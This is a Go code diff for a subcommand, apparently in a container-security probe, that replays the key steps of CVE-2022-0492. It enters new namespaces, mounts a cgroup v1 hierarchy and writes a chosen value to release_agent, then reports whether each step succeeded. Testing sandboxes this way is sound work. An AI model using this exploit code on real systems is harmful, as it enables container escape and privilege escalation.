@@ -11,20 +11,29 @@ import (
 )
 
 func init() {
-	register("release-agent", "CONTROLLER VALUE", releaseAgent)
-	register("release-agent-child", "CONTROLLER VALUE", releaseAgentChild)
+	register("release-agent", "here|nested OPTIONS VALUE", releaseAgent)
+	register("release-agent-child", "OPTIONS VALUE", releaseAgentChild)
 }
 
-// releaseAgent plays CVE-2022-0492: it starts itself in new user, mount
-// and cgroup namespaces (root mapped to our uid), where the child mounts
-// the cgroup v1 hierarchy of CONTROLLER on /dev/shm and writes VALUE to
-// its release_agent. It prints the child's report: "mount ERRNO", or
-// "write ERRNO", or "WROTE" when the attack worked.
+// releaseAgent plays CVE-2022-0492: it mounts a cgroup v1 hierarchy with
+// mount data OPTIONS ("memory" for an existing hierarchy, "none,name=x"
+// for a new named one) on a scratch directory and writes VALUE to its
+// release_agent. "here" tries it in the process's own namespaces; "nested"
+// first enters new user, mount and cgroup namespaces (root mapped to our
+// uid), as the published exploit does. It prints "unshare ERRNO",
+// "mount ERRNO", "write ERRNO", or "WROTE" when the attack worked.
 func releaseAgent(out io.Writer, args []string) error {
-	if err := needArgs(args, 2, 2, "CONTROLLER VALUE"); err != nil {
+	if err := needArgs(args, 3, 3, "here|nested OPTIONS VALUE"); err != nil {
 		return err
 	}
-	cmd := exec.Command("/proc/self/exe", append([]string{"release-agent-child"}, args...)...)
+	switch args[0] {
+	case "here":
+		return releaseAgentChild(out, args[1:])
+	case "nested":
+	default:
+		return usageError{"here|nested OPTIONS VALUE"}
+	}
+	cmd := exec.Command("/proc/self/exe", append([]string{"release-agent-child"}, args[1:]...)...)
 	cmd.Stdout, cmd.Stderr = out, out
 	cmd.SysProcAttr = &syscall.SysProcAttr{
 		Cloneflags:  unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP,
@@ -37,15 +46,23 @@ func releaseAgent(out io.Writer, args []string) error {
 	return nil
 }
 
+// releaseAgentChild mounts, writes and unmounts again (a mount that
+// worked must not outlive the attempt).
 func releaseAgentChild(out io.Writer, args []string) error {
-	if err := needArgs(args, 2, 2, "CONTROLLER VALUE"); err != nil {
+	if err := needArgs(args, 2, 2, "OPTIONS VALUE"); err != nil {
 		return err
 	}
-	if err := unix.Mount("cgroup", "/dev/shm", "cgroup", 0, args[0]); err != nil {
+	dir, err := scratchDir()
+	if err != nil {
+		return err
+	}
+	defer os.Remove(dir)
+	if err := unix.Mount("cgroup", dir, "cgroup", 0, args[0]); err != nil {
 		fmt.Fprintf(out, "mount %s\n", errnoName(err))
 		return nil
 	}
-	fd, err := unix.Open("/dev/shm/release_agent", unix.O_WRONLY|unix.O_CLOEXEC, 0)
+	defer unix.Unmount(dir, unix.MNT_DETACH)
+	fd, err := unix.Open(dir+"/release_agent", unix.O_WRONLY|unix.O_CLOEXEC, 0)
 	if err == nil {
 		_, err = unix.Write(fd, []byte(args[1]))
 		unix.Close(fd)
